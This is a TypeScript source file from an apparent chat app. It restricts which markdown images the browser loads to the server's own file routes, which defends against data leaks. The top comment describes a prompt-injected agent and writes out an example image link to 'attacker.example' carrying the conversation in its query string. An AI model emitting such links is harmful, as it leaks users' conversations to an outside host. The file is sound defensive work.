// Which images in message markdown the browser may load. Agents repeat what they read, so a prompt-injected
// agent could write `![](https://attacker.example/?q=<the conversation>)`: an image the browser fetched on
// render would leak the conversation without a click. Only the server's own file routes are shown as
// images (fetched with the session's token, like attachments); anything else becomes a link.

const FILE_ROUTE = /^\/api\/v1\/files\/([A-Za-z0-9_-]+)$/;

/**
 * The id of the stored file `src` points at, when it is one of the server's own file routes
 * (`/api/v1/files/{id}`, relative or on the server's origin); null for any other address.
 */
export function ownFileId(src: string | undefined, serverUrl: string, pageOrigin: string): string | null {
  if (!src) return null;
  let url: URL;
  try {
    // Relative addresses are the server's: its URL, or the page's origin when the app is served by it.
    url = new URL(src, serverUrl ? new URL(serverUrl, pageOrigin) : pageOrigin);
  } catch {
    return null;
  }
  const serverOrigin = new URL(serverUrl || pageOrigin, pageOrigin).origin;
  if (url.origin !== serverOrigin || url.search || url.hash || url.username || url.password) return null;
  return FILE_ROUTE.exec(url.pathname)?.[1] ?? null;
}
